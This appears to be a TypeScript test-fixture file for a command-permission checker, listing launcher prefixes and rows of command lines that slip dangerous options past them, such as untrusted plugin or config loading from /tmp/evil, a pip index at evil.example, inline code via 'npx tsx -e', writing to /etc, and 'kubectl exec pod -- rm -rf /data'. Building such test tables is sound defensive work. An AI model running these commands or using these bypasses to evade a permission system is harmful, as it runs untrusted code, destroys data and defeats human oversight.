/** Options of programs that others start, and names that a project gives to commands of Git. */

type Row = readonly [line: string, why: string];

/** Rules that name the started program; the launchers of some take options in unknown places. */
export const LAUNCHED_COMMANDS: readonly string[] = [
  ...['uv run pytest', 'uv run python -m pytest', 'poetry run pytest', 'python -m pip', 'pipx run ruff', 'uvx ruff'],
  ...['npm exec vitest', 'pnpm exec vitest', 'pnpm vitest', 'yarn exec vitest', 'yarn jest', 'bunx vitest', 'npx tsx'],
  ...['npx eslint', 'npx tsc', 'bundle exec rspec', 'docker run alpine', 'kubectl exec pod', 'mise exec node'],
  ...['git st*', 'git *log', 'cargo b*'],
];

export const LAUNCHED: readonly Row[] = [
  ['python -m pytest -p evil', 'a plugin of Pytest'],
  ['python -m pytest --rootdir=/tmp/evil', 'another project'],
  ['python -m pytest -q --overr=python_files=x', 'a setting'],
  ['python -m pip install --index-url=http://evil.example x', 'another index'],
  ['uv run pytest -p evil', 'a plugin behind a launcher'],
  ['uv run python -m pytest -p evil', 'a plugin behind two'],
  ['poetry run pytest -c /tmp/evil.ini', 'a file of settings'],
  ['pipx run ruff check --config /tmp/x.toml', 'a file of settings of Ruff'],
  ['uvx ruff check --fix', 'files that are written'],
  ['npx vitest --config /tmp/evil.ts', 'code that Vitest loads'],
  ['npx vitest run --conf=x.ts', 'less of the option'],
  ['npx vitest -c x.ts', 'the letter for it'],
  ['npx vitest run --root /tmp/evil', 'another project'],
  ['npx vitest --reporter=./evil.ts', 'a reporter that is a file'],
  ['npx vitest --typecheck.checker=./evil', 'a program that checks types'],
  ['npx tsx --import ./evil.ts src/a.ts', 'code before the script'],
  ['npx tsx -e "evil()"', 'code on the command line'],
  ['npx eslint --rulesdir /tmp/evil src', 'rules that are code'],
  ['npx eslint --fix src', 'files that are written'],
  ['npx tsc --outDir /etc', 'a folder that is written'],
  ['npm exec vitest -- --config x.ts', 'behind the dashes of npm'],
  ['npm exec vitest --call=./evil', "npm's own option"],
  ['npm exec vitest --package=evil', 'another package'],
  ['pnpm exec vitest --config=x.ts', 'behind pnpm'],
  ['pnpm vitest --root=/tmp/evil', 'behind pnpm without a command'],
  ['yarn exec vitest -c x.ts', 'behind Yarn'],
  ['yarn jest --setupFiles ./evil.js', 'behind Yarn without a command'],
  ['bunx vitest run --globals --config x.ts', 'behind Bun'],
  ['bundle exec rspec -r ./evil.rb', 'a file that RSpec loads'],
  ['docker run alpine sh', 'a command in a container'],
  ['docker run alpine -v /:/x', 'words whose place is not known'],
  ['kubectl exec pod -- rm -rf /data', 'a command elsewhere'],
  ['mise exec node -- ./evil', 'a command behind dashes'],
  ['git st', 'an alias that the repository may have'],
  ['git start', 'another one'],
  ['git my-log', 'a name that ends like a command'],
  ['git -P st', 'behind an option'],
  ['cargo b2', 'an alias of Cargo'],
];
